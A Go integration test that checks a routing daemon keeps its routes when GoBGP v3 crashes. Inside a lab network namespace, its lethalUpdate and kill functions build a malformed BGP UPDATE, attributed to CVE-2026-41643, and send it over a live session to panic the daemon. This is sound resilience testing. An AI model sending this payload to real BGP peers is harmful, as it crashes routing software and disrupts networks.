package faults_test

import (
	"encoding/binary"
	"io"
	"net"
	"strings"
	"testing"
	"time"

	"github.com/vrfredist/vrfredist/integration/netns/lab"
)

// lethalPeer is a neighbour with AS numbers of two bytes, which opens the session.
const lethalPeer = `
[[neighbors]]
  [neighbors.config]
    neighbor-address = "10.0.0.3"
    peer-as = 65300
  [neighbors.transport.config]
    passive-mode = true
  [[neighbors.afi-safis]]
    [neighbors.afi-safis.config]
      afi-safi-name = "ipv4-unicast"
`

// message is a BGP message (RFC 4271, 4.1).
func message(kind byte, body ...byte) []byte {
	m := make([]byte, 18, 19+len(body))
	for i := range 16 {
		m[i] = 0xff
	}
	binary.BigEndian.PutUint16(m[16:], uint16(19+len(body)))
	return append(append(m, kind), body...)
}

// lethalUpdate has AS4_PATH before AS_PATH, and that last (CVE-2026-41643).
func lethalUpdate() []byte {
	attributes := []byte{
		0x40, 1, 1, 0, // ORIGIN
		0x40, 3, 4, 10, 0, 1, 2, // NEXT_HOP
		0xc0, 17, 6, 2, 1, 0, 0, 0xff, 0x14, // AS4_PATH
		0x40, 2, 4, 2, 1, 0xff, 0x14, // AS_PATH
	}
	body := []byte{0, 0, 0, byte(len(attributes))}
	return message(2, append(append(body, attributes...), 24, 19, 0, 0)...)
}

// kill opens a session from 10.0.0.3, and sends the update that GoBGP v3 does not
// survive.
func (w *network) kill() {
	w.T.Helper()
	var conn net.Conn
	lab.WaitFor(w.T, "a session of a peer with AS numbers of two bytes", limit(), func() string {
		if err := w.up.Enter(func() (err error) {
			d := net.Dialer{LocalAddr: &net.TCPAddr{IP: net.IPv4(10, 0, 0, 3)}, Timeout: time.Second}
			conn, err = d.Dial("tcp", "10.0.0.1:179")
			return err
		}); err != nil {
			return err.Error()
		}
		return ""
	})
	defer conn.Close()
	send := func(m []byte) {
		if _, err := conn.Write(m); err != nil {
			w.T.Fatalf("write to the session: %v", err)
		}
	}
	send(message(1, 4, 0xff, 0x14, 0, 90, 10, 0, 0, 3, 0)) // OPEN, AS 65300, without a capability
	send(message(4))                                       // KEEPALIVE
	// The session is up once the daemon has said a KEEPALIVE too.
	if err := conn.SetReadDeadline(time.Now().Add(limit())); err != nil {
		w.T.Fatal(err)
	}
	for head := make([]byte, 19); ; {
		if _, err := io.ReadFull(conn, head); err != nil {
			w.T.Fatalf("read from the session: %v", err)
		}
		if _, err := io.CopyN(io.Discard, conn, int64(binary.BigEndian.Uint16(head[16:]))-19); err != nil {
			w.T.Fatalf("read from the session: %v", err)
		}
		if head[18] == 4 {
			break
		}
		if head[18] == 3 {
			w.T.Fatal("the daemon refused the session")
		}
	}
	send(lethalUpdate())
	if err := w.daemon.Wait(lab.Patience); err == nil || strings.Contains(err.Error(), "still runs") {
		w.T.Fatalf("GoBGP survived the update: %v: this proves nothing", err)
	}
}

// An UPDATE kills GoBGP v3, and so the daemon: the routes stay, and the next start
// adopts them, as the service manager's would.
func TestFault05LethalUpdate(t *testing.T) {
	w := newNetwork(t, routes)
	w.up.Address("eth0", "10.0.0.3/24")
	w.daemon = w.rtr.Daemon(exporting() + lethalPeer)
	w.wait(all(routes), all(routes6))
	mark, s := w.rtr.Mark(), w.sample()
	w.kill()
	if out := w.daemon.Output(); !strings.Contains(out, "panic") {
		t.Errorf("the daemon ended, and not in a panic: %s", lastLine(out))
	}
	w.daemon.Start()
	w.wait(all(routes), all(routes6))
	s.finish()
	lab.Equal(t, "the fewest routes that any sample saw", routes+routes6, s.least)
	lab.Equal(t, "routes that were written or deleted", 0, len(w.rtr.Since(mark)))
	measured(t, "the daemon dies; %d of %d routes at the worst of %d samples; adopted, 0 writes", s.least, routes+routes6, s.samples)
}
